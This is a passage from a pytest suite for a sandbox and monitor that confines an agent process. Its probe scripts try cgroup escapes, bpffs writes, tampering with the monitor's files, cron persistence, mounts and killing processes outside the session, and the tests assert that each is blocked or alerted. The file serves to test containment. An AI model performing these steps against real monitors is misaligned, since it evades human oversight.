    out[name] = attempt(lambda: fn(path))
mine = cg2() + open("/proc/self/cgroup").read().split("0::", 1)[1].strip()
for f in ("cgroup.procs", "cgroup.kill", "cgroup.freeze"):
    check("own " + f, open_w, os.path.join(mine, f))
check("root cgroup.procs", open_w, os.path.join(cg2(), "cgroup.procs"))
check("mkdir in own cgroup", os.mkdir, os.path.join(mine, "escape"))
for d in os.listdir("/sys/fs/cgroup"):
    p = os.path.join("/sys/fs/cgroup", d, "cgroup.procs")
    if os.path.isfile(p):
        check(p, open_w, p)
check("mkdir in bpffs", os.mkdir, "/sys/fs/bpf/rwtest-TOKEN")
for f in MONITOR_FILES:
    check("open_w " + f, open_w, f)
    check("create " + f, create, f + ".new")
for d in ("/var/lib/roguewatch", "/var/cache/roguewatch", "/run/roguewatch-private"):
    check("mkdir " + d, os.mkdir, os.path.join(d, "rwtest-TOKEN"))
# every private collector's directory (this run's own among them): its sockets, alert file
out["create in /run/roguewatch-private/*/"] = sorted({
    attempt(lambda: create(os.path.join(d, "rwtest-TOKEN")))
    for d in glob.glob("/run/roguewatch-private/roguewatch-*/")
})
"""


@pytest.fixture
def monitor_files(agent: Agent) -> Iterator[list[str]]:
    """A file of ours in each directory of the monitor's that holds files (made when missing,
    removed afterwards with whatever we made)."""
    import glob

    made_dirs, files = [], []
    for d in ("/etc/roguewatch", "/var/log/roguewatch", "/run/roguewatch"):
        if not os.path.isdir(d):
            os.makedirs(d, mode=0o700)
            made_dirs.append(d)
        f = os.path.join(d, f"rwtest-{agent.token}")
        Path(f).write_text("monitor's\n")
        files.append(f)
    yield files
    # (what an agent that got through would have left, too)
    mine = f"rwtest-{agent.token}"
    for f in [*files, *glob.glob(f"/run/roguewatch-private/roguewatch-*/{mine}")]:
        for leftover in glob.glob(f + "*"):
            os.unlink(leftover)
    for d in ("/var/lib/roguewatch", "/var/cache/roguewatch", "/run/roguewatch-private",
              "/sys/fs/bpf"):  # fmt: skip
        shutil.rmtree(os.path.join(d, mine), ignore_errors=True)
    for d in made_dirs:
        try:
            os.rmdir(d)
        except OSError:
            pass  # something else put a file there meanwhile: leave it


def fs_probe(agent: Agent, monitor_files: list[str]) -> str:
    return ("import glob\n" + f"MONITOR_FILES = {monitor_files!r}\n"
            + FS_PROBE.replace("TOKEN", agent.token))  # fmt: skip


def assert_the_monitor_is_out_of_reach(said: dict, monitor_files: list[str]) -> None:
    cgroup = {k: v for k, v in said.items() if "cgroup" in k or "bpffs" in k}
    assert len(cgroup) >= 6 and set(cgroup.values()) == {errno.EACCES}, cgroup
    assert said.pop("create in /run/roguewatch-private/*/") == [errno.EACCES], said
    monitor = {k: v for k, v in said.items() if "roguewatch" in k}
    assert len(monitor) == 2 * len(monitor_files) + 3, monitor
    assert set(monitor.values()) == {errno.EACCES}, monitor
    for f in monitor_files:
        assert Path(f).read_text() == "monitor's\n" and not os.path.exists(f + ".new")


def test_the_default_ruleset_keeps_the_agent_from_the_monitors_files_cgroups_and_bpffs(
    agent: Agent, monitor_files: list[str]
) -> None:
    """No `writable:`: the workspace, /tmp, /etc/cron.d are writable (the cron file is the
    rules' business: observe mode here, so they only say it), the monitor's paths are not."""
    ws = agent.tmp / "ws"
    ws.mkdir()
    cron = f"/etc/cron.d/roguewatch-test-{os.getpid()}-landlock"
    try:
        r = agent.run(
            fs_probe(agent, monitor_files)
            + f"""
check("workspace", create, {str(ws / "out")!r})
check("mkdir workspace", os.mkdir, {str(ws / "d")!r})
check("tmp", create, "/tmp/rwtest-{agent.token}")
check("cron", create, {cron!r})
say(**out)
""",
            policy=OBSERVE_LOCAL,
        )
    finally:
        for f in (cron, f"/tmp/rwtest-{agent.token}"):
            if os.path.exists(f):
                os.unlink(f)
    said = r.said()
    assert said.get("workspace") == 0 and said["mkdir workspace"] == 0, r.describe()
    assert said["tmp"] == 0 and said["cron"] == 0, said
    r.one("persistence_cron_write", path=cron)
    assert_the_monitor_is_out_of_reach(said, monitor_files)
    assert r.status == 0, r.describe()
    assert_clean_end(r)


WRITABLE_PROBE = """
def open_w(p):
    os.close(os.open(p, os.O_WRONLY))
def create(p):
    os.close(os.open(p, os.O_WRONLY | os.O_CREAT, 0o600))
say(workspace=attempt(lambda: create(WS + "/out")), mkdir=attempt(lambda: os.mkdir(WS + "/d")),
    tmp=attempt(lambda: create(OTHER)), dev_null=attempt(lambda: open_w("/dev/null")))
"""


def test_writable_confines_the_agents_writes_to_its_roots(agent: Agent) -> None:
    ws = agent.tmp / "ws"
    ws.mkdir()
    other = f"/tmp/rwtest-{agent.token}"
    try:
        r = agent.run(f"WS, OTHER = {str(ws)!r}, {other!r}\n" + WRITABLE_PROBE,
                      policy=ALLOW_LOCAL + f"writable: [{ws}]\n")  # fmt: skip
    finally:
        if os.path.exists(other):
            os.unlink(other)
    said = r.said()
    assert said == {"workspace": 0, "mkdir": 0, "tmp": errno.EACCES, "dev_null": 0}, r.describe()
    assert (ws / "out").exists() and (ws / "d").is_dir() and not os.path.exists(other)
    assert r.status == 0, r.describe()
    assert_clean_end(r)


def test_writable_holds_in_observe_mode_too_and_the_monitor_stays_out_of_reach(
    agent: Agent, monitor_files: list[str]
) -> None:
    """The sandbox is not a rule's action: observe mode keeps it (here, so that the rules
    that kill for an attempt on the cgroup filesystem leave the agent to report them all)."""
    ws = agent.tmp / "ws"
    ws.mkdir()
    other = f"/tmp/rwtest-{agent.token}"
    try:
        r = agent.run(
            fs_probe(agent, monitor_files) + "say(**out)\n"
            + f"WS, OTHER = {str(ws)!r}, {other!r}\n" + WRITABLE_PROBE,
            policy=OBSERVE_LOCAL + f"writable: [{ws}]\n",
        )  # fmt: skip
    finally:
        if os.path.exists(other):
            os.unlink(other)
    said = r.said()
    assert said.get("workspace") == 0 and said["mkdir"] == 0, r.describe()
    assert said["tmp"] == errno.EACCES and said["dev_null"] == 0, said
    assert_the_monitor_is_out_of_reach(said, monitor_files)
    assert r.status == 0, r.describe()
    assert_clean_end(r)


def test_the_agent_cannot_mount_over_a_directory(agent: Agent) -> None:
    target = agent.tmp / "cron.d"
    target.mkdir()
    try:
        r = agent.run(
            f"""
libc = ctypes.CDLL(None, use_errno=True)
rc = libc.mount(b"tmpfs", {str(target).encode()!r}, b"tmpfs", 0, None)
say(rc=rc, errno=ctypes.get_errno())
"""
        )
    finally:
        subprocess.run(["umount", str(target)], capture_output=True)
    assert r.said() == {"rc": -1, "errno": errno.EPERM}, r.describe()
    assert r.status == 0, r.describe()


HELLO_C = '#include <stdio.h>\nint main(void) { puts("hello from cc"); return 0; }\n'


def test_cc_and_make_work_under_the_default_ruleset(agent: Agent) -> None:
    ws = agent.tmp / "ws"
    ws.mkdir()
    (ws / "hello.c").write_text(HELLO_C)
    (ws / "Makefile").write_text("hello2: hello.c\n\tcc -O2 -o $@ $<\n")
    script = f"cd {ws} && cc -o hello hello.c && ./hello && make -s && ./hello2"
    r = agent.run_argv(["/bin/sh", "-c", script])
    assert r.status == 0, r.describe()
    assert r.stdout.splitlines() == ["hello from cc", "hello from cc"], r.describe()
    assert_clean_end(r)


def test_pip_installs_into_a_venv_in_the_workspace_under_the_default_ruleset(
    agent: Agent,
) -> None:
    ws = agent.tmp / "ws"
    pkg = ws / "pkg"
    (pkg / "rwhello").mkdir(parents=True)
    (pkg / "rwhello" / "__init__.py").write_text("GREETING = 'hello from a venv'\n")
    (pkg / "setup.py").write_text(
        "from setuptools import setup\nsetup(name='rwhello', version='1.0', packages=['rwhello'])\n"
    )
    script = (f"cd {ws} && {AGENT_PYTHON} -m venv venv && "
              "venv/bin/pip install -q --no-index --no-build-isolation ./pkg && "
              "venv/bin/python -c 'import rwhello; print(rwhello.GREETING)'")  # fmt: skip
    r = agent.run_argv(["/bin/sh", "-c", script], timeout=180)
    assert r.status == 0, r.describe()
    assert r.stdout.strip().splitlines()[-1] == "hello from a venv", r.describe()
    assert_clean_end(r)


@pytest.mark.parametrize(
    ("writable", "says"),
    [
        ("[relative/dir]", "writable[0]: expected an absolute path"),
        ("[/nonexistent/rwtest]", "writable[0]: '/nonexistent/rwtest' does not exist"),
        ("[/tmp, /run/roguewatch-private]", "writable root '/run/roguewatch-private'"),
    ],
    ids=["relative", "missing", "monitor's"],
)
def test_a_bad_writable_entry_is_a_clear_error(agent: Agent, writable: str, says: str) -> None:
    r = agent.run("say(ran=True)", policy=ALLOW_LOCAL + f"writable: {writable}\n")
    assert r.status == 2, r.describe()
    assert says in r.stderr, r.describe()
    assert "Traceback" not in r.stderr and "ran" not in r.said()


# --- the monitor's reach ------------------------------------------------------------------


def test_nothing_outside_the_session_is_killed(agent: Agent) -> None:
    # An outsider that looks like the agent: same interpreter, same token in its cmdline.
    outsider = subprocess.Popen(
        [AGENT_PYTHON, "-S", "-c", f"import time\ntime.sleep(60)\n# {agent.token}"],
        start_new_session=True,
    )
    try:
        time.sleep(0.2)
        r = agent.run(
            f"""
            if os.fork() == 0:
                os.setsid()
                while True:
                    time.sleep(1)
            say(kill=attempt(lambda: os.kill({outsider.pid}, signal.SIGKILL)))
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(3)
            """
        )
        assert r.said().get("kill", errno.EPERM) == errno.EPERM, r.describe()
        assert r.status == 128 + signal.SIGKILL, r.describe()
        assert_clean_end(r)
        time.sleep(0.2)
        assert outsider.poll() is None, "the monitor killed a process outside the session"
        assert agent.leftovers() == [outsider.pid]
    finally:
        outsider.kill()
        outsider.wait()


def test_signalling_a_process_outside_the_session_is_alerted_and_the_sender_killed(
    agent: Agent,
) -> None:
    outsider = subprocess.Popen(["sleep", "60"], start_new_session=True)
    try:
        r = agent.run(
            f"""
            say(pid=os.getpid(), errno=attempt(lambda: os.kill({outsider.pid}, signal.SIGTERM)))
            time.sleep(3)
            say(survived=True)
            """
        )
        # Landlock refuses it (EPERM); the agent may be dead before it can say so.
        assert r.said().get("errno", errno.EPERM) == errno.EPERM, r.describe()
        assert outsider.poll() is None
        alert = r.one("shutdown_signal_outside_session", target=outsider.pid)
        assert "killed" in alert["outcome"], alert
        assert "survived" not in r.said() and r.status == 128 + signal.SIGKILL, r.describe()
    finally:
        outsider.kill()
        outsider.wait()
